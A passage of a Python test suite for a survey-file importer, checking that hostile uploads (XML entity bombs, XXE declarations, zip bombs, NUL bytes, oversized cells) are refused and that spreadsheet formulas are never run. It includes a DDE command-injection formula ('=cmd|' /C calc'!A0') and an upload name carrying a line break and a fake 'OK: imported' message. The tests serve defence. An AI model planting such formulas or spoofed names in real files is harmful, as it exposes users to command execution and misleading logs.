    r"save it as \.xlsx\)",
    "positionless_cells": r"svar\.xlsx: a sheet has more than 5,000 columns \(the limit\)",
    "laughs_sheet": "svar.xlsx" + DTD.format(r"xl/worksheets/sheet1\.xml"),
    "laughs_shared_strings": "svar.xlsx" + DTD.format(r"xl/sharedStrings\.xml"),
    "laughs_workbook": "svar.xlsx" + DTD.format(r"xl/workbook\.xml"),
    "xxe_sheet": "svar.xlsx" + DTD.format(r"xl/worksheets/sheet1\.xml"),
    "xxe_content_types": "svar.xlsx" + DTD.format(r"\[Content_Types\]\.xml"),
    "laughs_ods": "svar.ods" + DTD.format(r"content\.xml"),
    "xxe_ods": "svar.ods" + DTD.format(r"content\.xml"),
    "columns_20000_csv": r"svar\.csv: more than 5,000 columns \(20,000; the limit is 5,000\)",
    "columns_20000_xlsx": r"svar\.xlsx: a sheet has more than 5,000 columns \(the limit\)",
    "nul_in_cell_csv": r"svar\.csv: not a text table \(the file holds binary data: a NUL byte in line 2\)",
    "nul_everywhere_csv": r"svar\.csv: not a text table \(the file holds binary data: a NUL byte in line 1\)",
    "nul_after_32_kb_csv": r"svar\.csv: not a text table \(the file holds binary data: a NUL byte in line 2000\)",
}
IMPORTED = [n for n in BUILDERS if n not in REFUSED]
TABLE_VARIABLE = "SAMSKAPING_HOSTILE_TABLE"  # a file to append each outcome to (for the notes)


def _run(name: str, tmp_path: Path) -> tuple[dict, socket.socket]:
    """Build the file ``name``, import it in the child, and return the answer and the loopback listener."""
    listener = socket.create_server(("127.0.0.1", 0))
    file_name, build = BUILDERS[name]
    content = build(listener.getsockname()[1])
    path = tmp_path / file_name
    path.write_bytes(content)
    result = import_in_child(path, env=ENVIRONMENT.get(name))
    if os.environ.get(TABLE_VARIABLE):
        with open(os.environ[TABLE_VARIABLE], "a", encoding="utf-8") as table:
            what = result.get("message") or f"imported {result['rows']} respondents"
            table.write(json.dumps([name, len(content), what, result["seconds"], result["peak_mb"]]) + "\n")
    return result, listener


def _nobody_called(listener: socket.socket) -> None:
    """No connection reached the loopback listener (no formula, link or entity was followed)."""
    listener.setblocking(False)
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_hostile_file_is_refused_with_one_line(name: str, tmp_path: Path) -> None:
    result, listener = _run(name, tmp_path)
    assert result["outcome"] == "refused", result
    message = result["message"]
    assert "\n" not in message and "\r" not in message
    assert re.fullmatch(REFUSED[name], message), message
    _nobody_called(listener)


BASE = {"respondent_id": ["R1", "R2", "R3"], "q14": ["Fint samarbeid", "Greit", None], "q26": ["4.0", "5.0", "2.0"]}


@pytest.mark.parametrize(
    "name",
    ["good_xlsx", "good_ods", "libreoffice_filler_ods", "million_empty_lines_csv", "million_empty_rows_csv",
     "million_empty_rows_xlsx", "million_styled_rows_xlsx", "columns_5000_wordy_csv", "macro_xlsm"],
)  # fmt: skip
def test_file_with_the_table_and_filler_imports_the_table(name: str, tmp_path: Path) -> None:
    """The three answers of ROWS arrive unchanged; the empty rows after them are dropped."""
    result, listener = _run(name, tmp_path)
    assert result["outcome"] == "imported", result
    assert result["rows"] == 3
    for column, values in BASE.items():  # ROWS above: q14 blank for R3; q26 codes 4, 5, 2
        assert result["cells"][column] == values, column
    _nobody_called(listener)


def test_formulas_in_a_csv_stay_text(tmp_path: Path) -> None:
    """Formula text (HYPERLINK, DDE ``cmd|``, ``+``, ``@``, ``-``) is kept as written in a text item, never run;
    ``=2+2`` in a scale item is not 4 but an invalid value."""
    result, listener = _run("formulas_csv", tmp_path)
    assert result["outcome"] == "imported", result
    port = listener.getsockname()[1]
    expected = [text.replace("{port}", str(port)) for text in FORMULAS.values()]  # as written by formulas_csv
    assert result["cells"]["q14"] == expected
    assert result["cells"]["q26"] == [None] * 5
    assert any(issue.endswith("|q26") for issue in result["issues"]), result["issues"]
    _nobody_called(listener)


def test_formulas_and_external_links_in_a_workbook_are_not_run(tmp_path: Path) -> None:
    """A formula cell gives its saved value (or nothing), formula text stays text, the external link is ignored."""
    result, listener = _run("formulas_xlsx", tmp_path)
    assert result["outcome"] == "imported", result
    # D2 saved "click", D3 is the text "=cmd|' /C calc'!A0"; E2 saved 4, E3 has no saved value (formulas_xlsx).
    assert result["cells"]["q14"] == ["click", "=cmd|' /C calc'!A0"]
    assert result["cells"]["q26"] == ["4.0", None]
    _nobody_called(listener)


@pytest.mark.parametrize("name", ["long_cells_csv", "long_cells_ragged_csv", "long_cells_xlsx"])
def test_a_megabyte_cell_is_kept_whole(name: str, tmp_path: Path) -> None:
    """A cell of a megabyte (also in a ragged csv, which Python's csv module reads: it stopped at 131,072
    characters with "field larger than field limit") arrives whole in a text item."""
    result, listener = _run(name, tmp_path)
    assert result["outcome"] == "imported", result
    ragged = name == "long_cells_ragged_csv"  # long_rows: R3 with an extra cell
    assert result["cells"]["q14"] == [LONG.strip(), "kort"] + [None] * ragged  # the text item keeps all of it
    assert result["cells"]["q26"] == ["4.0", None] + ["3.0"] * ragged  # a megabyte of text is no scale answer
    assert any(issue.endswith("|q26") for issue in result["issues"]), result["issues"]
    _nobody_called(listener)


def test_a_megabyte_label_in_a_companion_file_is_read() -> None:
    """Regression: a SurveyXact labels.csv with a label over 131,072 characters raised csv.Error (a crash)."""
    from samskaping.importing import read_table

    labels = b"Q26;1;Helt uenig\r\n" * 5 + b'Q26;2;"' + b"x" * 200_000 + b'"\r\n'
    raw = read_table("svar.csv", b"Q26,case,group\r\n1,A,municipality\r\n", companions={"labels.csv": labels})
    assert raw.value_labels["Q26"] == {"1": "Helt uenig", "2": "x" * 200_000}  # the rows of ``labels`` above


def test_mixed_encodings_are_read_line_by_line(tmp_path: Path) -> None:
    """Lines in UTF-8 and in Windows-1252 (a file appended to by two programs): each line in its own encoding.
    Before, the whole file was read as Windows-1252 and the UTF-8 lines became mojibake ("BodÃ¸")."""
    result, _ = _run("mixed_encodings_csv", tmp_path)
    assert result["outcome"] == "imported" and result["encoding"] == "utf-8 and cp1252 (by line)", result
    assert result["cells"]["case"] == ["Bodø kommune", "Tromsø AS"]  # mixed_encodings: UTF-8, then cp1252
    assert result["cells"]["q14"] == ["Særs godt", "Grått"]


def test_a_windows_1252_file_stays_windows_1252() -> None:
    """No line is UTF-8 with non-ASCII bytes: the whole file is Windows-1252, as before."""
    from samskaping.importing import read_table

    raw = read_table("svar.csv", "case,group,Q26\r\nTromsø AS,municipality,3\r\nÅs,other,2\r\n".encode("cp1252"))
    assert raw.encoding == "cp1252" and raw.frame["case"].tolist() == ["Tromsø AS", "Ås"]


# --- file names that are not UTF-8 --------------------------------------------------------------

BYTES_NAME = b"svar-\xff\xfe\x80.csv"  # not UTF-8: Python names it with surrogate escapes


def test_path_with_a_non_utf8_name_imports_and_names_the_bytes(tmp_path: Path) -> None:
    path = os.fsencode(tmp_path) + b"/" + BYTES_NAME
    with open(path, "wb") as handle:
        handle.write(csv_bytes([HEADER, *ROWS]))
    result = import_in_child(path)
    assert result["outcome"] == "imported", result
    assert result["source"] == "svar-\\xff\\xfe\\x80.csv"  # the bytes shown as escapes, printable as UTF-8
    result["source"].encode("utf-8")


def test_path_with_a_non_utf8_name_gets_a_printable_message(tmp_path: Path) -> None:
    path = os.fsencode(tmp_path) + b"/" + BYTES_NAME
    with open(path, "wb") as handle:
        handle.write(csv_bytes(nul_rows()))
    result = import_in_child(path)
    assert result["message"] == (
        "svar-\\xff\\xfe\\x80.csv: not a text table (the file holds binary data: a NUL byte in line 2)"
    )


@pytest.mark.parametrize(
    ("upload", "builder", "message"),
    [
        ("svar-\udcff\udcfe.xlsx", "zip_bomb", r"svar-\\xff\\xfe\.xlsx: refused: part xl/worksheets/sheet1\.xml "),
        ("svar\r\nOK: imported\u202e.csv", "nul_in_cell_csv", r"svar\\u000d\\u000aOK: imported\\u202e\.csv: not a "),
        ("x" * 5000 + ".ods", "laughs_ods", r"x{90}…x{25}\.ods: refused: part content\.xml declares a DTD"),
    ],
)
def test_upload_names_are_shown_on_one_printable_line(upload: str, builder: str, message: str, tmp_path: Path) -> None:
    """An upload's name (surrogates, line breaks, a direction override, 5 000 characters) is escaped and cut."""
    path = tmp_path / "content"
    path.write_bytes(BUILDERS[builder][1](1))
    result = import_in_child(path, upload=upload)
    assert result["outcome"] == "refused"
    assert re.match(message, result["message"]), result["message"]
    result["message"].encode("utf-8")  # printable: no lone surrogates


def test_command_line_names_a_non_utf8_file_on_one_line(tmp_path: Path) -> None:
    """``samskaping validate`` on a file named with a non-UTF-8 byte and a line break: one printable line."""
    path = os.fsencode(tmp_path) + b"/bad-\xff\nx.csv"
    with open(path, "wb") as handle:
        handle.write(csv_bytes(nul_rows()))
    done = subprocess.run(
        [sys.executable, "-m", "samskaping", "validate", path], capture_output=True, cwd=REPO, timeout=TIMEOUT
    )
    assert done.returncode == 2  # methods.md section 10: exit code 2 for a file that cannot be used
    assert (
        done.stderr
        == b"error: bad-\\xff\\u000ax.csv: not a text table (the file holds binary data: a NUL byte in line 2)\n"
    )
